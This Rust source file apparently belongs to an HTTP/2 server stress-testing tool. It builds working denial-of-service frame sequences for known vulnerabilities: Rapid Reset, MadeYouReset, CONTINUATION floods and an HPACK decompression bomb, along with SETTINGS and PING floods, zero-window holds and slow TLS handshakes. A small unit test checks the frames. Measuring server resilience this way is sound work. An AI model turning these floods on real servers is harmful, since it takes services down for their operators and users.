//! The kinds of flood, and the frames they are made of.

use clap::ValueEnum;
use serde::{Deserialize, Serialize};

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, frame, pseudo,
};

/// One kind of flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Flood {
    /// Nothing but the client that behaves.
    None,
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests for which the server has to reset the stream (CVE-2025-8671).
    MadeYouReset,
    /// A head without an end (CVE-2024-27316).
    Continuation,
    /// The same, of frames without anything in them.
    EmptyContinuation,
    /// Settings, each of which is to be acknowledged.
    Settings,
    /// Pings, likewise.
    Ping,
    /// A body of frames without anything in them.
    EmptyData,
    /// Small heads that become large ones: a field of 4,000 bytes named 12,000 times.
    HpackBomb,
    /// Requests for 1 MiB whose answers are never taken.
    ZeroWindow,
    /// Connections that say a byte of their handshake now and then.
    SlowHandshake,
    /// Full handshakes without a request.
    Handshakes,
}

/// What one connection of a flood sends.
pub(crate) struct Script {
    /// After the preface.
    pub(crate) begin: Vec<u8>,
    /// Connections at a time.
    pub(crate) connections: usize,
    /// Frames in each part.
    pub(crate) frames: u64,
    /// Parts after which nothing more is sent; the connection is held.
    pub(crate) parts_max: u32,
    /// Part number so-and-so.
    pub(crate) part: Box<dyn Fn(u32) -> Vec<u8>>,
}

/// Bytes of a field that is named again and again: with its name and 32 more it fills a table of 4,096.
const BOMB_FIELD_BYTES: usize = 4_000;
/// Names of it in one head; a frame has at most 16,384 bytes.
const BOMB_NAMES: usize = 12_000;
/// The entry that was added last (RFC 7541 §2.3.3), by its place (§6.1).
const NEWEST: u8 = 0x80 | 62;
/// A stream's or connection's last error code but one: the request is no longer wanted.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// SETTINGS_INITIAL_WINDOW_SIZE, 0.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// As many streams as servers commonly allow.
const STREAMS: u32 = 100;

impl Flood {
    /// In the order of the report.
    pub(crate) const ALL: [Self; 12] = [
        Self::None,
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::HpackBomb,
        Self::ZeroWindow,
        Self::SlowHandshake,
        Self::Handshakes,
    ];

    /// As a heading.
    pub(crate) fn title(self) -> &'static str {
        match self {
            Self::None => "No flood",
            Self::RapidReset => "Rapid reset: HEADERS and RST_STREAM (CVE-2023-44487)",
            Self::MadeYouReset => "MadeYouReset: HEADERS and a WINDOW_UPDATE too far (CVE-2025-8671)",
            Self::Continuation => "A head without an end: CONTINUATION (CVE-2024-27316)",
            Self::EmptyContinuation => "The same, CONTINUATION without anything in it",
            Self::Settings => "SETTINGS",
            Self::Ping => "PING",
            Self::EmptyData => "DATA without anything in it",
            Self::HpackBomb => "HPACK: heads of 12 KB that stand for 48 MB",
            Self::ZeroWindow => "1 MiB asked for on 100 streams of each connection, windows never opened",
            Self::SlowHandshake => "Handshakes that take for ever",
            Self::Handshakes => "Handshakes without a request",
        }
    }

    /// What is counted of it.
    pub(crate) fn unit(self) -> &'static str {
        match self {
            Self::SlowHandshake => "bytes",
            Self::Handshakes => "handshakes",
            _ => "frames",
        }
    }

    /// Whether clients come by TLS.
    pub(crate) fn is_by_tls(self) -> bool {
        matches!(self, Self::SlowHandshake | Self::Handshakes)
    }

    /// What is sent, where it is frames.
    pub(crate) fn script(self) -> Option<Script> {
        let head = block(&pseudo("/small", "http"));
        let plain = |part: Box<dyn Fn(u32) -> Vec<u8>>| Script {
            begin: settings(&[]),
            connections: 4,
            frames: 1,
            parts_max: u32::MAX >> 2,
            part,
        };
        let opened = |flags, part| {
            let begin = [settings(&[]), frame(HEADERS, flags, 1, &head)].concat();
            Script { begin, ..plain(part) }
        };
        Some(match self {
            Self::None | Self::SlowHandshake | Self::Handshakes => return None,
            Self::RapidReset => Script { frames: 2, ..plain(Box::new(pairs(RST_STREAM, CANCEL))) },
            Self::MadeYouReset => {
                Script { frames: 2, ..plain(Box::new(pairs(WINDOW_UPDATE, [0x7f, 0xff, 0xff, 0xff]))) }
            }
            Self::Continuation => {
                let more = frame(CONTINUATION, 0, 1, &block(&[("x-flood", "of fields that never end"); 8]));
                opened(0, Box::new(move |_| more.clone()))
            }
            Self::EmptyContinuation => opened(0, Box::new(|_| frame(CONTINUATION, 0, 1, &[]))),
            Self::Settings => plain(Box::new(|_| settings(&[]))),
            Self::Ping => plain(Box::new(|_| frame(PING, 0, 0, &[0; 8]))),
            Self::EmptyData => opened(END_HEADERS, Box::new(|_| frame(DATA, 0, 1, &[]))),
            Self::HpackBomb => {
                let (begin, part) = bomb();
                Script { begin, ..plain(Box::new(part)) }
            }
            Self::ZeroWindow => {
                let head = block(&pseudo("/1m", "http"));
                let part = move |at: u32| frame(HEADERS, END_HEADERS | END_STREAM, 2 * at + 1, &head);
                Script { begin: settings(&NO_WINDOW), parts_max: STREAMS, ..plain(Box::new(part)) }
            }
        })
    }
}

impl Script {
    /// All that a connection begins with.
    pub(crate) fn opening(&self) -> Vec<u8> {
        [PREFACE, &self.begin].concat()
    }
}

fn settings(payload: &[u8]) -> Vec<u8> {
    frame(SETTINGS, 0, 0, payload)
}

/// A whole request and a frame for its stream.
fn pairs(kind: u8, payload: [u8; 4]) -> impl Fn(u32) -> Vec<u8> {
    let head = block(&pseudo("/small", "http"));
    move |at| {
        let stream = 2 * at + 1;
        let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head);
        [request, frame(kind, 0, stream, &payload)].concat()
    }
}

/// A field that is kept in the table, and then named alone.
fn bomb() -> (Vec<u8>, impl Fn(u32) -> Vec<u8>) {
    let mut stored = block(&[("x-bomb", &"x".repeat(BOMB_FIELD_BYTES))]);
    // A literal that is kept in the table (RFC 7541 §6.2.1).
    stored[0] = 0x40;
    let pseudo = block(&pseudo("/small", "http"));
    let first = frame(HEADERS, END_HEADERS | END_STREAM, 1, &[pseudo.as_slice(), &stored].concat());
    let large = [pseudo, vec![NEWEST; BOMB_NAMES]].concat();
    let part = move |at: u32| frame(HEADERS, END_HEADERS | END_STREAM, 2 * at + 3, &large);
    ([settings(&[]), first].concat(), part)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frames::read;

    #[test]
    fn every_script_is_made_of_whole_frames_on_streams_of_their_own() {
        for flood in Flood::ALL {
            let Some(script) = flood.script() else { continue };
            for at in [0, 1, 99] {
                let bytes = (script.part)(at);
                let mut rest = bytes.as_slice();
                let mut frames = 0;
                while !rest.is_empty() {
                    let frame = read(&mut rest).unwrap();
                    assert!(
                        frame.payload.len() <= 16_384
                            && frame.stream.is_multiple_of(2) == (frame.stream == 0)
                    );
                    frames += 1;
                }
                assert_eq!(frames, script.frames, "{flood:?}");
            }
            assert!(script.opening().starts_with(PREFACE));
        }
    }
}
